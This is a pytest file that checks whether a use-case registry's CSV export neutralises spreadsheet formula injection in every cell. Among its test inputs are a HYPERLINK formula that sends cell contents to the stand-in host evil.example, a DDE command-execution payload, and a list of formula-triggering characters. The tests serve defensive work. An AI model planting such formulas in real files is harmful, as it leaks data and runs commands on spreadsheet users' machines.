"""Issue 16.3: CSV export neutralises spreadsheet formulas in every cell (OWASP CSV injection).

Use cases whose title and description start with each dangerous character are exported through the real
registry (uvicorn) and the file is read back with the csv module, as a spreadsheet would import it.
"""

from __future__ import annotations

import csv
import io

import pytest

from registry.export import csv_cell
from tests.registry.support import RegistryServer

# Leading characters a spreadsheet may treat as a formula: ASCII per OWASP, their full-width forms, and the
# same hidden behind an invisible zero-width space or a leading full-width space.
DANGEROUS = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\u200b=", "\u2060\uff0b"]
PAYLOAD = 'HYPERLINK("http://evil.example/?x="&A1,"open")'


def _export_rows(server: RegistryServer) -> list[dict[str, str]]:
    response = server.request("GET", "/api/v1/usecases/export", params={"format": "csv"})
    assert response.status_code == 200, response.text
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_exported_cells_never_start_a_formula(registry_server: RegistryServer) -> None:
    enterprise = registry_server.create_enterprise(name="=cmd|' /C calc'!A0", name_en="@SUM(1+1)")
    created = {}
    for prefix in DANGEROUS:
        use_case = registry_server.create_use_case(
            enterprise_id=enterprise["id"],
            title=f"{prefix}{PAYLOAD}",
            description=f"{prefix}1+1\nsecond line",
            recognitions=[f"{prefix}2+2"],
        )
        created[use_case["id"]] = prefix
    harmless = registry_server.create_use_case(enterprise_id=enterprise["id"], title="Plain title - with a dash")

    rows = {int(row["id"]): row for row in _export_rows(registry_server)}
    for use_case_id, prefix in created.items():
        row = rows[use_case_id]
        # Neutralised: one quote in front, the text itself kept exactly (nothing the owner wrote is lost).
        assert row["title"] == f"'{prefix}{PAYLOAD}", prefix
        assert row["description"] == f"'{prefix}1+1\nsecond line", prefix
        assert row["recognitions"] == f"'{prefix}2+2", prefix
        assert row["enterprise"] == "'=cmd|' /C calc'!A0"
        assert row["enterprise_en"] == "'@SUM(1+1)"
    assert rows[harmless["id"]]["title"] == "Plain title - with a dash"


@pytest.mark.parametrize("value", ["\t=1+1", "\r=1+1", "-2+3", "\u2060@A1", "\ufeff=1"])
def test_characters_the_schemas_strip_are_still_neutralised(value: str) -> None:
    # Tab and CR cannot start a stored field today (the schemas trim them), but the writer must not depend on that.
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", [None, 12, -5, "", "Title", "2026-01-01", "1+1"])
def test_data_stays_as_it_is(value: object) -> None:
    assert csv_cell(value) == ("" if value is None else value)
